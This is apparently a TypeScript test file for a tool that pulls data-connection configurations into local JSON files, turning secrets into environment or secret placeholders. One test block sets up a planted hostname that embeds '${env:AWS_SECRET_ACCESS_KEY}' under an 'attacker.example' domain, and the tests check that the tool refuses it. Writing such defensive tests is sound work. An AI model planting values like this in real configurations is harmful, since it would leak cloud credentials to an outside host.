import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { connectionToFileText, fileNameFor, mergeIntoFileText } from '../../core/src/pullFile';
import { parseConnectionText } from '../../core/src/connectionFile';
import { secretRule } from '../../core/src/sensitiveFields';
import type { Connection } from '../../core/src/api/types';

const live: Connection = {
  id: '6f1c',
  name: 'Sales Warehouse',
  type: { id: 'redshift', name: 'Amazon Redshift' },
  configuration: { hostname: 'rs.example.com', password: '********', aws_user: 'svc', nested: { client_secret: '******' } },
};

describe('pull', () => {
  test('a new file: masked secrets become placeholders, read-only fields are dropped, the id is written', () => {
    const out = connectionToFileText(live, { placeholderKind: 'env', readOnlyKeys: new Set(['aws_user']) });
    const value = parseConnectionText(out.text).value;
    assert.deepEqual(value, {
      id: '6f1c',
      name: 'Sales Warehouse',
      type: 'redshift',
      configuration: {
        hostname: 'rs.example.com',
        password: '${env:REDSHIFT_PASSWORD}',
        nested: { client_secret: '${env:REDSHIFT_NESTED_CLIENT_SECRET}' },
      },
    });
    assert.ok(!out.text.includes('***'));
    assert.deepEqual(out.placeholders, ['${env:REDSHIFT_PASSWORD}', '${env:REDSHIFT_NESTED_CLIENT_SECRET}']);
  });

  test('secret placeholders when asked', () => {
    const out = connectionToFileText(live, { placeholderKind: 'secret' });
    assert.match(out.text, /"\$\{secret:REDSHIFT_PASSWORD\}"/);
  });

  test('an existing file keeps its comments and its own placeholders; changed values and removed keys follow live', () => {
    const text = `{
  // production warehouse
  "id": "6f1c",
  "name": "Old name",
  "type": "redshift",
  "configuration": {
    "hostname": "old.example.com", // moved last week
    "password": "\${secret:RS_PW}",
    "gone": true
  }
}
`;
    const out = mergeIntoFileText(text, live, { placeholderKind: 'env', readOnlyKeys: new Set(['aws_user']) });
    assert.match(out.text, /\/\/ production warehouse/);
    assert.match(out.text, /"hostname": "rs\.example\.com", \/\/ moved last week/);
    assert.match(out.text, /"password": "\$\{secret:RS_PW\}"/);
    assert.match(out.text, /"name": "Sales Warehouse"/);
    assert.ok(!out.text.includes('"gone"'));
    assert.ok(!out.text.includes('aws_user'));
    assert.deepEqual(out.placeholders, ['${env:REDSHIFT_NESTED_CLIENT_SECRET}']);
  });

  test('file names are kebab case', () => {
    assert.equal(fileNameFor('Sales Warehouse (EU)'), 'sales-warehouse-eu.polytomic.json');
    assert.equal(fileNameFor('***'), 'connection.polytomic.json');
  });
});

describe('pull of nested secrets', () => {
  test('secrets the API returns in clear (nested, header pairs) become placeholders too', () => {
    const apiLive: Connection = {
      id: 'a1',
      name: 'Partner API',
      type: { id: 'api' },
      configuration: {
        url: 'https://partner.example.com',
        headers: [{ name: 'Authorization', value: 'Bearer clear-token' }, { name: 'Accept', value: 'application/json' }],
        auth: { basic: { username: 'u', password: 'clear-password' } },
      },
    };
    const out = connectionToFileText(apiLive, { placeholderKind: 'env', isSecret: secretRule(new Set()) });
    assert.ok(!out.text.includes('clear-token') && !out.text.includes('clear-password'));
    assert.match(out.text, /"value": "\$\{env:API_HEADERS_0_VALUE\}"/);
    assert.match(out.text, /"password": "\$\{env:API_AUTH_BASIC_PASSWORD\}"/);
    assert.match(out.text, /"value": "application\/json"/);
    assert.match(out.text, /"username": "u"/);
  });
});

describe('pull of values that read like placeholders', () => {
  // The attack: someone with write access to the organisation sets a connection's hostname to a placeholder; a pull
  // that copied it would make the next send read that variable from the puller's machine and send it to that host.
  const planted: Connection = {
    id: 'p1',
    name: 'Planted',
    type: { id: 'postgresql' },
    organization_id: 'org-1',
    configuration: { hostname: '${env:AWS_SECRET_ACCESS_KEY}.attacker.example', port: 5432, database: 'db${secret:OTHER}' },
  };

  test('a new file leaves them out and names them', () => {
    const out = connectionToFileText(planted, { placeholderKind: 'env' });
    assert.ok(!out.text.includes('${'), out.text);
    assert.deepEqual(out.refused, ['configuration.hostname', 'configuration.database']);
    assert.equal(parseConnectionText(out.text).value?.configuration && (parseConnectionText(out.text).value?.configuration as { port: number }).port, 5432);
  });

  test('an existing file keeps its own value for them', () => {
    const text = '{\n  "id": "p1",\n  "name": "Planted",\n  "type": "postgresql",\n  "configuration": { "hostname": "db.example.com", "port": 5432 }\n}\n';
    const out = mergeIntoFileText(text, planted, { placeholderKind: 'env' });
    assert.match(out.text, /"hostname": "db\.example\.com"/);
    assert.ok(!out.text.includes('AWS_SECRET_ACCESS_KEY') && !out.text.includes('OTHER'));
    assert.deepEqual(out.refused, ['configuration.hostname', 'configuration.database']);
  });

  test('organization_id is written only where the file had it', () => {
    assert.ok(!connectionToFileText(planted, { placeholderKind: 'env' }).text.includes('organization_id'));
    const without = '{\n  "id": "p1",\n  "name": "Planted",\n  "type": "postgresql",\n  "configuration": {}\n}\n';
    assert.ok(!mergeIntoFileText(without, planted, { placeholderKind: 'env' }).text.includes('organization_id'));
    const withOrg = without.replace('"type"', '"organization_id": "old",\n  "type"');
    assert.match(mergeIntoFileText(withOrg, planted, { placeholderKind: 'env' }).text, /"organization_id": "org-1"/);
  });
});
